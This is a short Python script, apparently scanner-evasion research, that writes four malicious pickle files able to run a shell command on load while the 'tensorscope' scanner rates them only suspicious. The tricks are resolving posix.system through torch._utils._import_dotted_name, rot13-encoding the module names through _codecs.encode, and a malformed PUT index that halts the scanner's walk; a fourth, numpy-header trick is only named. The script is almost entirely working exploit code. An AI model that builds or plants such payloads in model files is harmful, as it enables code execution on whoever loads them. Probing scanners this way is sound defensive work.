# payloads tensorscope calls only "suspicious" although they run a shell command
from h import *
def su(s): b=s.encode(); return b'\x8c'+bytes([len(b)])+b
g=lambda m,n: b'c'+m.encode()+b'\n'+n.encode()+b'\n'
# 1. torch._utils._import_dotted_name("posix.system") returns os.system, then REDUCE calls it
p = b'\x80\x02' + g('torch._utils','_import_dotted_name') + b'X'+struct.pack('<I',12)+b'posix.system\x85R' + b'X'+struct.pack('<I',len(sh(11)))+sh(11).encode()+b'\x85R.'
open('import_dotted.pkl','wb').write(p); report('import_dotted.pkl',11)
# 2. the allowlisted _codecs.encode with the rot13 codec computes "posix"/"system" for STACK_GLOBAL
def enc(s):
    import codecs; return g('_codecs','encode')+su(codecs.encode(s,'rot13'))+su('rot13')+b'\x86R'
p = b'\x80\x04'+enc('posix')+enc('system')+b'\x93'+su(sh(12))+b'\x85R.'
open('rot13_stack_global.pkl','wb').write(p); report('rot13_stack_global.pkl',12)
# 3. a text PUT index with an underscore ("p1_0", PUT 10 for CPython) stops the walk; the payload after it is never seen
p = b"Np1_0\n0cposix\nsystem\n(S'" + sh(13).encode() + b"'\ntR."
open('put_underscore.pkl','wb').write(p); report('put_underscore.pkl',13)
# 4. numpy .npy header with a \N{...} escape in descr
from g_npy_escape import npy, evil
